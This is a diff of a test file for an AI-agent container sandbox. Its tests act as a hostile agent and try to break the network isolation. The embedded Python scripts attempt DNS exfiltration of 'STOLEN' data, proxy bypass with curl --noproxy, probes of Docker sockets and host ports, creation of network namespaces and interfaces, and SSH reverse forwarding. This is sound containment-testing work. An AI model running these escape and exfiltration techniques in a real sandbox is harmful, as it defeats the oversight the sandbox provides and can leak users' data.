@@ -1,61 +1,187 @@
 /**
- * Attacks by the network, as far as it is closed. Open are the internet, addresses of the local network, services
- * of this machine that listen on all addresses, and what neighbours listen on: nothing here says otherwise.
+ * Attacks by the network that a container does not have. Where it is cheap, the same is tried from a container that has
+ * the engine's network: nothing here is held back by anything but the wall.
  */
 import { once } from 'node:events';
+import { lookup } from 'node:dns/promises';
 import { chmodSync } from 'node:fs';
 import { connect, createServer, type AddressInfo } from 'node:net';
 import { join } from 'node:path';
-import { Place } from '../engine/place';
+import { Place, buildTimeoutMs } from '../engine/place';
+import { Cai, newWorkspace } from '../engine/support';
 import { attempt, reachedIf } from './attempt';
-import { sceneFor } from './hostile-agent';
+import { Outside, stolen } from './outside';
 
-const scene = sceneFor();
+const outside = Outside.of();
+const cai = new Cai();
+let place: Place;
+/** Has the engine's network. */
+let open: Place;
 
-/** What an agent reads that connects to a port of these addresses, which are shell words. */
-async function readFrom(addresses: readonly string[], port: number): Promise<string> {
-  const script = `import socket, sys
-for address in sys.argv[2:]:
-    try:
-        with socket.create_connection((address, int(sys.argv[1])), 3) as client: print(address, client.recv(100))
-    except OSError: pass`;
-  return await scene.sh(`python3 -c '${script}' ${port} ${addresses.join(' ')}`);
+beforeAll(async () => {
+  place = await new Place(cai).opened();
+  open = await new Place(new Cai('egress = "open"\n'), newWorkspace()).opened();
+}, buildTimeoutMs);
+
+/** What of an attack got out or in. */
+async function reachedBy(script: string, from = place): Promise<string | undefined> {
+  const { heard, ended } = await outside.heardOf(from, script);
+  if (ended.status !== 0) throw new Error(`the attack ended with ${ended.status}: ${ended.stderr}`);
+  const said = heard + ended.stdout.toString();
+  return reachedIf(/STOLEN|REACHED/.test(said), said);
 }
 
-/** The address by which containers reach this machine. */
-const gateway = `$(python3 -c "print('.'.join(str(b) for b in reversed(bytes.fromhex([l.split()[2] for l in open('/proc/net/route') if l.split()[1] == '00000000'][0]))))" 2>/dev/null || echo 172.17.0.1)`;
+/** The same, of an attack that succeeds from a container with a network. */
+async function reachedByWhatOpenAllows(script: string): Promise<string | undefined> {
+  if ((await reachedBy(script, open)) === undefined)
+    throw new Error('nor does it succeed with egress = "open"');
+  return await reachedBy(script);
+}
 
-describe('an agent and the network', () => {
+const eachAddress = (attack: string) => `for address in addresses:
+    try: ${attack}
+    except OSError as error: print(error)`;
+
+describe('an agent without a network', () => {
+  attempt('an agent reaches a service of the user’s machine that listens on all addresses', () =>
+    reachedByWhatOpenAllows(eachAddress(`print(say('${stolen}', (address, port)))`)),
+  );
+
+  attempt('an agent sends datagrams to the user’s machine', () =>
+    reachedByWhatOpenAllows(`for address in [*addresses, '255.255.255.255', '224.0.0.1', 'ff02::1']:
+    try:
+        s = socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET, socket.SOCK_DGRAM)
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
+        s.sendto(b'${stolen}', (address, port))
+    except OSError as error: print(error)`),
+  );
+
+  attempt('an agent pings the user’s machine', () =>
+    reachedByWhatOpenAllows(
+      eachAddress(`
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
+        s.settimeout(2)
+        s.sendto(bytes([8, 0, 0, 0, 0, 0, 0, 1]) + b'data', (address, 0))
+        print('REACHED', s.recv(100))`),
+    ),
+  );
+
+  attempt('an agent connects to a public address', async () => {
+    const { address } = await lookup('registry.npmjs.org');
+    return await reachedByWhatOpenAllows(`
+try: socket.create_connection(('${address}', 443), 5); print('REACHED')
+except OSError as error: print(error)`);
+  });
+
+  attempt('an agent sends data in names that it looks up', () =>
+    reachedBy(`servers = ['8.8.8.8', '1.1.1.1', '127.0.0.11', '127.0.0.53', '127.0.0.1', '2606:4700:4700::1111', *addresses]
+servers += [line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver ')]
+query = b'\\x00\\x01\\x01\\x00\\x00\\x01' + b'\\x00' * 6 + b'\\x06STOLEN\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01'
+for server in servers:
+    family = socket.AF_INET6 if ':' in server else socket.AF_INET
+    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
+        s = socket.socket(family, kind)
+        s.settimeout(1)
+        try:
+            s.connect((server, 53))
+            s.sendall(query if kind == socket.SOCK_DGRAM else bytes([0, len(query)]) + query)
+            if s.recv(100): print('REACHED', server)
+        except OSError as error: print(error)
+for name in ('registry.npmjs.org', 'stolen.example.com', 'gateway.docker.internal', 'host.docker.internal', 'host.containers.internal'):
+    try: print('REACHED', socket.getaddrinfo(name, 80))
+    except OSError as error: print(error)`),
+  );
+
+  attempt('an agent opens a socket that knows no network of its own, or none below IP', () =>
+    reachedBy(`kinds = [(socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET, socket.SOCK_RAW, 255), (socket.AF_INET6, socket.SOCK_RAW, 58), (socket.AF_PACKET, socket.SOCK_RAW, 768)]
+kinds += [(family, kind, 0) for family in range(3, 46) if family not in (10, 16) for kind in (1, 2, 3, 5)]
+for each in kinds:
+    try: socket.socket(*each)
+    except OSError: continue
+    print('REACHED', each)`),
+  );
+
+  attempt('an agent makes an interface, an address or a route', () =>
+    reachedBy(`import glob
+for command in ('ip link add evil type dummy', 'ip link add evil type veth', 'ip link set lo mtu 1000', 'ip addr add 10.9.8.7/24 dev lo', 'ip route add default dev lo', 'unshare -rn true', 'nsenter -t 1 -n true'):
+    try: done = subprocess.run(command.split(), capture_output=True)
+    except OSError: continue
+    if done.returncode == 0: print('REACHED', command)
+if os.listdir('/sys/class/net') != ['lo']: print('REACHED', os.listdir('/sys/class/net'))
+if os.path.exists('/dev/net/tun'): print('REACHED /dev/net/tun')`),
+  );
+
+  attempt('an agent has the engine give it a network', () =>
+    reachedBy(`for folder, folders, files in os.walk('/'):
+    if folder.startswith(('/proc', '/sys')): folders.clear()
+    for name in files:
+        if 'docker' in name or 'podman' in name or 'containerd' in name:
+            try: socket.socket(socket.AF_UNIX).connect(os.path.join(folder, name))
+            except OSError: continue
+            print('REACHED', folder, name)
+for address in ('127.0.0.1', '172.17.0.1', *addresses):
+    for number in (2375, 2376, 8080):
+        try: socket.create_connection((address, number), 1)
+        except OSError: continue
+        print('REACHED', address, number)`),
+  );
+
+  attempt('an agent goes around the proxy with programs that can be told to', () =>
+    reachedByWhatOpenAllows(`url = ['http://[%s]:%d/STOLEN' % (a, port) if ':' in a else 'http://%s:%d/STOLEN' % (a, port) for a in addresses]
+for each in url:
+    for command in (['curl', '-sS', '-m', '3', '--noproxy', '*'], ['env', '-u', 'http_proxy', '-u', 'HTTP_PROXY', '-u', 'NODE_USE_ENV_PROXY', 'node', '-e', 'fetch(process.argv[1]).catch(() => 0)']):
+        subprocess.run([*command, each], capture_output=True)`),
+  );
+});
+
+describe('an agent, of containers of others,', () => {
+  attempt('an agent reaches a service of a neighbour', async () => {
+    const serve = "import socket; s = socket.create_server(('', 9981)); print('begun', flush=True)\nwhile True: s.accept()[0].sendall(b'SERVICE')"; // prettier-ignore
+    const neighbours = [await new Place(cai).opened(), open];
+    const servers = neighbours.map((each) => each.start(['python3', '-c', serve]));
+    for (const server of servers) await server.says('begun');
+    const address = await open.inspect('{{range .NetworkSettings.Networks}}{{.IPAddress}} {{end}}');
+    const read = `for address in ('127.0.0.1', '::1', *'${address}'.split()):
+    if 'SERVICE' in say('', (address, 9981)): print('REACHED', address)`;
+    const isServed = await reachedBy(read, open);
+    const reached = await reachedBy(read);
+    for (const { child } of servers) child.kill('SIGKILL');
+    if (isServed === undefined) throw new Error('the service does not serve');
+    return reached;
+  });
+
+  attempt('an agent uses the proxy of a neighbour', async () => {
+    const neighbour = await new Place(cai).opened();
+    const holder = neighbour.start(['sh', '-c', 'echo $https_proxy; cat']);
+    await holder.says('\n');
+    const [port] = /\d+$/.exec(holder.stdout.toString().trim()) ?? [];
+    const ask = `print(say('GET http://a/ HTTP/1.1\\r\\nHost: a\\r\\nConnection: close\\r\\n\\r\\n', ('127.0.0.1', ${port})))`;
+    const own = (await neighbour.run(['sh', '-c', `exec 3<> /dev/tcp/127.0.0.1/${port}`].with(0, 'bash')))
+      .status;
+    // The port can be this command's own, too.
+    const said = await reachedBy(`if proxy[1] != ${port}: ${ask.replace('print(', "print('REACHED' if 'cai: ' in ").replace(/\)$/, " else '')")}`); // prettier-ignore
+    holder.child.stdin.end();
+    if (own !== 0) throw new Error('the neighbour itself does not reach it');
+    return said;
+  });
+});
+
+describe('an agent, of ways in,', () => {
   attempt(
     'an agent reaches a service that listens on the loopback address of the user’s machine',
     async () => {
-      const server = createServer((socket) => socket.end('SERVICE OF THE HOST')).listen(0, '127.0.0.1');
+      const server = createServer((socket) => socket.end('REACHED')).listen(0, '127.0.0.1');
       await once(server, 'listening');
       const { port } = server.address() as AddressInfo;
-      const said = await readFrom(
-        ['127.0.0.1', 'localhost', '::1', '0.0.0.0', gateway, 'host.docker.internal'],
-        port,
-      );
+      const names = "['127.0.0.1', 'localhost', '::1', '0.0.0.0', 'host.docker.internal', *addresses]";
+      const reached = await reachedBy(`for each in ${names}: print(say('', (each, ${port})))`);
       server.close();
-      return reachedIf(said !== '', said);
+      return reached;
     },
   );
 
-  attempt('an agent reaches a service that listens on the loopback address of a neighbour', async () => {
-    const neighbour = await new Place(scene.cai).opened();
-    const serve = "import socket; s = socket.create_server(('127.0.0.1', 9981)); print('begun', flush=True)\nwhile True: s.accept()[0].sendall(b'SERVICE')"; // prettier-ignore
-    const server = neighbour.start(['python3', '-c', serve]);
-    await server.says('begun');
-    const own = await neighbour.run(['python3', '-c', "import socket; print(socket.create_connection(('127.0.0.1', 9981)).recv(100))"]); // prettier-ignore
-    if (!own.stdout.includes('SERVICE')) throw new Error('the service does not serve');
-    const address = await neighbour.inspect('{{.NetworkSettings.IPAddress}}');
-    const said = await readFrom(['127.0.0.1', gateway, ...(address === '' ? [] : [address])], 9981);
-    server.child.kill('SIGKILL');
-    return reachedIf(said !== '', said);
-  });
-
   attempt('an agent has cai connect to a socket of the user’s machine instead of its container', async () => {
-    const path = join(scene.cai.home, 'own.sock');
+    const path = join(cai.home, 'own.sock');
     let isReached = false;
     const server = createServer((socket) => {
       isReached = true;
@@ -63,47 +189,51 @@ describe('an agent and the network', () => {
     }).listen(path);
     await once(server, 'listening');
     chmodSync(path, 0o777);
-    const place = await new Place(scene.cai).opened();
-    await place.prints(['ln', '-sf', path, '/run/cai/door/ssh']);
-    const { status } = await place.run(['true']);
+    const own = await new Place(cai).opened();
+    await own.prints(['ln', '-sf', path, '/run/cai/door/ssh']);
+    const { status } = await own.run(['true']);
     server.close();
     if (status === 0) throw new Error('the container was entered: the link is not in the way');
     return reachedIf(isReached, path);
   });
 
+  attempt('an agent logs in to the sshd of its container, and has it forward', async () => {
+    const script = `cd && cp /run/cai/host_key key && chmod 600 key && ssh-keygen -q -t ed25519 -N '' -f own
+for key in key own; do ssh -i $key -o IdentitiesOnly=yes -o StrictHostKeyChecking=no -o BatchMode=yes \\
+  -o 'ProxyCommand=/run/cai/join /run/cai/door/ssh' -R 9983:127.0.0.1:${outside.port} agent@inside echo REACHED; done`;
+    const { stdout, stderr } = await place.run(['sh', '-c', script]);
+    if (!stderr.includes('Permission denied')) throw new Error(`it could not be tried: ${stderr}`);
+    return reachedIf(stdout.includes('REACHED'), stdout.toString());
+  });
+
   attempt('an agent listens on a port of the user’s machine', async () => {
-    const serve = 'import socket; s = socket.create_server(("0.0.0.0", 9982))\nwhile True: s.accept()';
-    const isServing = 'import socket; socket.create_connection(("127.0.0.1", 9982))';
-    await scene.sh(`python3 -c '${serve}' > /dev/null 2>&1 & until python3 -c '${isServing}' 2> /dev/null; do sleep 0.1; done`); // prettier-ignore
+    const serve = "import socket; s = socket.create_server(('', 9982)); print('begun', flush=True)\nwhile True: s.accept()"; // prettier-ignore
+    const server = place.start(['python3', '-c', serve]);
+    await server.says('begun');
     const socket = connect(9982, '127.0.0.1');
     const isOpen = await new Promise<boolean>((done) => {
       socket.on('connect', () => done(true)).on('error', () => done(false));
     });
     socket.destroy();
-    await scene.sh('pkill -f "[c]reate_server" || true');
+    server.child.kill('SIGKILL');
     return reachedIf(isOpen, 'port 9982 of 127.0.0.1');
   });
 
   attempt('an agent connects to a socket of the host that has a name but no file', async () => {
     const serve = '$| = 1; use Socket; socket(S, AF_UNIX, SOCK_STREAM, 0); bind(S, sockaddr_un("\\0cai-evil")) or die $!; listen(S, 5); print "begun\\n"; accept(C, S);'; // prettier-ignore
-    const server = scene.cai.startProgram('perl', ['-e', serve]);
+    const server = cai.startProgram('perl', ['-e', serve]);
     await server.says('begun');
-    const name = "'\\0cai-evil'";
-    const { status } = await scene.tries(`python3 - <<'EOF'
-import socket
-path = ${name}
+    const reached = await reachedBy(`path = '\\0cai-evil'
 for size in (len(path), 108):
     try: socket.socket(socket.AF_UNIX).connect(path.ljust(size, '\\0'))
     except OSError: continue
-    raise SystemExit(0)
-raise SystemExit(1)
-EOF`);
+    print('REACHED')`);
     server.child.kill('SIGKILL');
-    return reachedIf(status === 0, 'the socket @cai-evil');
+    return reached;
   });
 
-  attempt('an agent changes addresses, routes or names of its network', async () => {
-    const script = `import fcntl, socket, struct
+  attempt('an agent changes addresses, routes or names of its network', () =>
+    reachedBy(`import fcntl, struct
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 for name, number in {'address': 0x8916, 'flags': 0x8914, 'route': 0x890B, 'hardware address': 0x8924, 'mtu': 0x8922}.items():
     for interface in (b'eth0', b'lo'):
@@ -111,12 +241,10 @@ for name, number in {'address': 0x8916, 'flags': 0x8914, 'route': 0x890B, 'hardw
         except PermissionError: continue
         except OSError as error:
             if error.errno in (19, 22, 95, 99): continue
-        print(name, interface)
+        print('REACHED', name, interface)
 for path in ('/etc/hosts', '/etc/resolv.conf', '/etc/hostname', '/proc/sys/net/ipv4/conf/all/forwarding'):
     try: open(path, 'a')
     except OSError: continue
-    print(path)`;
-    const said = await scene.sh(`python3 - <<'EOF'\n${script}\nEOF`);
-    return reachedIf(said !== '', said);
-  });
+    print('REACHED', path)`),
+  );
 });
